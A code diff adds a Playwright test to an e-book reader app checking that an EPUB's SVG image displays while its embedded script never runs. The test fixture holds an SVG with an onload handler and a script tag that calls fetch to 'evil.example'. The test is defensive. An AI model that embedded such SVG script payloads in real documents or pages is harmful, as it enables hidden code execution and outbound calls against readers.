@@ -1,4 +1,4 @@
-import { buildEpub } from '../support/epub-builder';
+import { buildBook, buildEpub, xhtmlChapter } from '../support/epub-builder';
 import { expect, test } from './fixtures';
 
 test('an EPUB comes in with its chapters in order and shows its own image from the app, not a placeholder', async ({ launch }) => {
@@ -75,4 +75,33 @@ test('Ctrl+Shift+V adds a web page copied in another application as a new docume
   await page.keyboard.press('Control+Shift+V');
   await expect(page.getByRole('status', { name: 'Notices' })).toContainText('The clipboard holds no text to add as a document.');
   await expect(page.getByRole('navigation', { name: 'Library' }).getByRole('listitem')).toHaveCount(2);
+});
+
+test('a book’s SVG plate shows as an image from the app, and the script inside it runs nothing', async ({ launch }) => {
+  const { page, blockedRequests } = await launch();
+  await expect(page.getByRole('article')).toBeVisible();
+  const plate =
+    '<svg xmlns="http://www.w3.org/2000/svg" width="40" height="30" onload="parent.__svgRan = true">' +
+    '<script>parent.__svgRan = true; fetch("https://evil.example/svg")</script><rect width="40" height="30" fill="teal"/></svg>';
+  const book = buildBook({
+    metadata: '<dc:title>Plates</dc:title>',
+    files: [
+      {
+        id: 'c1',
+        href: 'c1.xhtml',
+        content: xhtmlChapter('<h1>Plates</h1><p>The first plate.</p><p><img src="plate.svg" alt="The white rabbit"/></p>'),
+      },
+      { id: 'p1', href: 'plate.svg', mediaType: 'image/svg+xml', content: plate, inSpine: false },
+    ],
+  });
+  const chooser = page.waitForEvent('filechooser');
+  await page.getByRole('button', { name: 'Add documents…' }).click();
+  await (await chooser).setFiles([{ name: 'plates.epub', mimeType: 'application/epub+zip', buffer: Buffer.from(book) }]);
+  await expect(page.getByRole('status', { name: 'Notices' })).toContainText('Added “Plates”.', { timeout: 30_000 });
+
+  const image = page.getByRole('article').getByRole('img', { name: 'The white rabbit' });
+  await expect(image).toHaveAttribute('src', /^\/documents\/[0-9a-f-]{36}\/assets\/plate\.svg$/);
+  await expect.poll(() => image.evaluate((element: HTMLImageElement) => element.complete && element.naturalWidth)).toBe(40);
+  expect(await page.evaluate(() => (window as unknown as { __svgRan?: boolean }).__svgRan ?? false)).toBe(false);
+  expect(blockedRequests).toEqual([]);
 });
